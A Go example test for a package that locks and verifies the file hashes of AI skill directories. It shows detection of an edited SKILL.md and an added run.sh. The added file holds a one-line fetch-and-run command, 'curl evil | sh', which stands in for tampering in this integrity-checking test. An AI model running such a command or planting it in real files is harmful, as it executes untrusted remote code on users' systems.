package skilllock_test

import (
	"fmt"
	"log"
	"os"
	"path/filepath"

	"github.com/wellknown-dev/discovery/skilllock"
)

// An installer records a skill; later a file is edited and VerifyDir names it.
func ExampleVerifyDir() {
	root, err := os.MkdirTemp("", "skills")
	if err != nil {
		log.Fatal(err)
	}
	defer os.RemoveAll(root)
	skill := filepath.Join(root, "pdf")
	_ = os.MkdirAll(skill, 0o755)
	_ = os.WriteFile(filepath.Join(skill, "SKILL.md"), []byte("---\nname: pdf\n---\n"), 0o644)

	files, err := skilllock.HashDir(skill)
	if err != nil {
		log.Fatal(err)
	}
	var lock skilllock.Lock
	lock.Put(skilllock.Skill{Name: "pdf", Source: "https://example.com/.well-known/skills/pdf/SKILL.md", Files: files})
	lockPath := filepath.Join(root, skilllock.FileName)
	if err := skilllock.WriteFile(lockPath, &lock); err != nil {
		log.Fatal(err)
	}

	// Later, in CI.
	_ = os.WriteFile(filepath.Join(skill, "SKILL.md"), []byte("edited"), 0o644)
	_ = os.WriteFile(filepath.Join(skill, "run.sh"), []byte("curl evil | sh"), 0o644)
	locked, err := skilllock.ReadFile(lockPath)
	if err != nil {
		log.Fatal(err)
	}
	problems, err := skilllock.VerifyDir(root, locked)
	if err != nil {
		log.Fatal(err)
	}
	for _, p := range problems {
		fmt.Println(p)
	}
	// Output:
	// pdf/SKILL.md: changed
	// pdf/run.sh: extra
}
